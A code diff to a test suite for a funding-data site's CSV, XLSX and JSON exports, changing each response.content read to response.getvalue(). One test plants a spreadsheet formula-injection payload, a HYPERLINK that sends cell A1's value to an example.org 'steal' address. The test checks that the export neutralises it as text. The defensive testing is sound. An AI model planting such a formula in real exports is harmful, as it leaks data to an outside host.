@@ -144,7 +144,7 @@ def test_csv_of_every_published_period(client, sample_funding):
     response = client.get("/en/funding/export.csv")
     assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
     assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-all-periods.csv"'
-    rows = read_csv(response.content)
+    rows = read_csv(response.getvalue())
     assert list(rows[0]) == HEADER
     assert len(rows) == 22 and {row["period"] for row in rows} == {"2020-H1", "2024-H2"}  # never the draft 2025-H1
     assert [{key: row[key] for key in ("instrument", "period", *AMOUNT_COLUMNS)} for row in rows] == expected_rows()
@@ -161,7 +161,7 @@ def test_xlsx_of_one_period_matches_the_page_to_the_cent(client, sample_funding)
     response = client.get("/en/funding/export.xlsx?period=2024-H2")
     assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-2024-H2.xlsx"'
-    workbook = read_xlsx(response.content)
+    workbook = read_xlsx(response.getvalue())
     sheet = workbook[workbook.sheetnames[0]]
     rows = sheet_rows(sheet)
     assert len(rows) == 16 and {row["period"] for row in rows} == {"2024-H2"}
@@ -180,12 +180,12 @@ def test_xlsx_of_one_period_matches_the_page_to_the_cent(client, sample_funding)
 
 
 def test_titles_in_the_page_language(client, sample_funding):
-    rows = read_csv(client.get("/zh-hans/funding/export.csv?period=2024-H2").content)
+    rows = read_csv(client.get("/zh-hans/funding/export.csv?period=2024-H2").getvalue())
     titles = {row["instrument"]: row["title"] for row in rows}
     assert titles["resolution 2/7"] == "人人享有适当住房"
-    workbook = read_xlsx(client.get("/zh-hans/funding/export.xlsx").content)
+    workbook = read_xlsx(client.get("/zh-hans/funding/export.xlsx").getvalue())
     assert "人人享有适当住房" in [row["title"] for row in sheet_rows(workbook.active)]
-    english = read_csv(client.get("/en/funding/export.csv?period=2024-H2").content)
+    english = read_csv(client.get("/en/funding/export.csv?period=2024-H2").getvalue())
     assert {row["instrument"]: row["title"] for row in english}["resolution 2/7"] == "Adequate housing for all"
 
 
@@ -199,11 +199,11 @@ def test_a_formula_in_a_note_comes_back_as_text(client, sample_funding):
     )
     row = next(
         r
-        for r in read_csv(client.get("/en/funding/export.csv?period=2024-H2").content)
+        for r in read_csv(client.get("/en/funding/export.csv?period=2024-H2").getvalue())
         if r["instrument"] == "resolution 2/6"
     )
     assert row["note"] == '\'=HYPERLINK("http://example.org/steal?x="&A1,"Details")'
-    sheet = read_xlsx(client.get("/en/funding/export.xlsx?period=2024-H2").content).active
+    sheet = read_xlsx(client.get("/en/funding/export.xlsx?period=2024-H2").getvalue()).active
     cell = next(c for c in sheet["M"] if isinstance(c.value, str) and "HYPERLINK" in c.value)
     assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK(")
     assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)
@@ -222,12 +222,12 @@ def test_ranking_export_follows_the_page(client, sample_funding):
     html = client.get("/en/funding/").content.decode()
     response = client.get("/en/funding/ranking.csv?period=2024-H2")
     assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-ranking-2024-H2.csv"'
-    rows = read_csv(response.content)
+    rows = read_csv(response.getvalue())
     assert [row["instrument"] for row in rows] == instruments_in(html, "ranking-gap")
     by_percent = sorted(rows, key=lambda row: int(row["rank_by_gap_percent"]))
     assert [row["instrument"] for row in by_percent] == instruments_in(html, "ranking-gap-percent")
     assert rows[0]["gap_usd"] == "1684500.00" and rows[0]["gap_percent"] == "53"
-    sheet = read_xlsx(client.get("/en/funding/ranking.xlsx").content).active
+    sheet = read_xlsx(client.get("/en/funding/ranking.xlsx").getvalue()).active
     assert [row["instrument"] for row in sheet_rows(sheet)] == [row["instrument"] for row in rows]
 
 
@@ -243,9 +243,9 @@ def test_json_of_every_published_period_holds_the_csvs_rows(client, sample_fundi
     response = client.get("/en/funding/export.json")
     assert response["Content-Type"] == "application/json"
     assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-all-periods.json"'
-    rows = json.loads(response.content)
+    rows = json.loads(response.getvalue())
     assert list(rows[0]) == HEADER
-    as_csv = read_csv(client.get("/en/funding/export.csv").content)
+    as_csv = read_csv(client.get("/en/funding/export.csv").getvalue())
     assert [{key: "" if value is None else str(value) for key, value in row.items()} for row in rows] == as_csv
     assert [
         {key: row[key] or "" for key in ("instrument", "period", *AMOUNT_COLUMNS)} for row in rows
@@ -254,8 +254,8 @@ def test_json_of_every_published_period_holds_the_csvs_rows(client, sample_fundi
 
 def test_the_public_download_and_the_apis_export_are_the_same_table(client, sample_funding):
     """Same columns, same rows (the API lists the latest period first), same amounts to the cent."""
-    web = json.loads(client.get("/en/funding/export.json").content)
-    api = json.loads(APIClient().get("/api/v1/funding/records/export.json?lang=en").content)
+    web = json.loads(client.get("/en/funding/export.json").getvalue())
+    api = json.loads(APIClient().get("/api/v1/funding/records/export.json?lang=en").getvalue())
     assert sorted(web, key=lambda row: (row["instrument"], row["period"])) == sorted(
         api, key=lambda row: (row["instrument"], row["period"])
     )
@@ -279,15 +279,15 @@ def test_a_formula_in_a_note_is_unchanged_in_json(client, sample_funding):
         acting_user=sample_funding,
         reason="A test of formula injection",
     )
-    rows = json.loads(client.get("/en/funding/export.json?period=2024-H2").content)
+    rows = json.loads(client.get("/en/funding/export.json?period=2024-H2").getvalue())
     assert next(row for row in rows if row["instrument"] == "resolution 2/6")["note"] == note
 
 
 def test_ranking_as_json(client, sample_funding):
     response = client.get("/zh-hans/funding/ranking.json?period=2024-H2")
     assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-ranking-2024-H2.json"'
-    rows = json.loads(response.content)
-    csv_rows = read_csv(client.get("/zh-hans/funding/ranking.csv?period=2024-H2").content)
+    rows = json.loads(response.getvalue())
+    csv_rows = read_csv(client.get("/zh-hans/funding/ranking.csv?period=2024-H2").getvalue())
     assert [row["instrument"] for row in rows] == [row["instrument"] for row in csv_rows]
     assert rows[0]["rank_by_gap"] == 1 and rows[0]["gap_usd"] == "1684500.00" and rows[0]["gap_percent"] == 53
     assert [row["title"] for row in rows] == [row["title"] for row in csv_rows]
